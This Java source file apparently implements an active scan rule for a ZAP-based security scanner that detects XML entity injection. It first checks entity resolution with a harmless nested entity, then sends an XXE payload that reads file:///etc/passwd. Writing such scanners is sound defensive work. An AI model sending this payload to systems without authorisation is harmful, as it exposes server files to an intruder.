package io.periscan.zap.active;

import io.periscan.zap.Rule;
import io.periscan.zap.page.Page;
import java.io.IOException;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.parosproxy.paros.network.HttpMessage;

/**
 * The server's XML reader resolves entities that the sender defines. WSTG-INPV-07. Proven by a word of ours that only the definition puts
 * together; then, only if that worked, by a file of the server. Nothing is fetched from anywhere.
 */
public final class EntityRule extends PageRule {
    private static final int MOST_PAGES = 200;

    public EntityRule() {
        super(new Rule(920011, "XML entities: the server's XML reader resolves what the sender defines", Rule.Level.HIGH, Rule.Confidence.HIGH, 611), MOST_PAGES);
    }

    @Override
    void probe(Page page) throws IOException {
        HttpMessage base = getBaseMsg();
        String method = base.getRequestHeader().getMethod();
        if (!method.equals("POST") && !method.equals("PUT") && !method.equals("PATCH")) return;
        if (!isNew(method + " " + page.url().split("[?#]", 2)[0])) return;
        String root = rootOf(base.getRequestBody().toString());
        String first = Token.word();
        String second = Token.word();
        String internal = "<!DOCTYPE " + root + " [<!ENTITY zqa \"" + first + "\"><!ENTITY zqb \"&zqa;" + second + "\">]>";
        String body = document(internal, root, "&zqb;");
        Page answer = sendXml(body);
        if (!answer.text().contains(first + second)) return;
        String external = document("<!DOCTYPE " + root + " [<!ENTITY zqc SYSTEM \"file:///etc/passwd\">]>", root, "&zqc;");
        Page file = sendXml(external);
        String found = file.find(PathRule.PASSWD);
        if (found != null) report(file, "", external, found);
        else report(answer, "", body, first + second);
    }

    private static String document(String type, String root, String content) {
        return "<?xml version=\"1.0\"?>" + type + "<" + root + ">" + content + "</" + root + ">";
    }

    /** The first element of an XML body; for any other body a name that says nothing. */
    private static String rootOf(String body) {
        Matcher root = Pattern.compile("^\\s{0,50}(?:<\\?[^>]{0,200}>\\s{0,50})?<([A-Za-z][\\w.-]{0,60})[\\s/>]").matcher(body);
        return root.find() ? root.group(1) : "root";
    }

    private Page sendXml(String body) throws IOException {
        HttpMessage message = getNewMsg();
        message.getRequestHeader().setHeader("Content-Type", "application/xml");
        message.setRequestBody(body);
        message.getRequestHeader().setContentLength(message.getRequestBody().length());
        return send(message);
    }
}
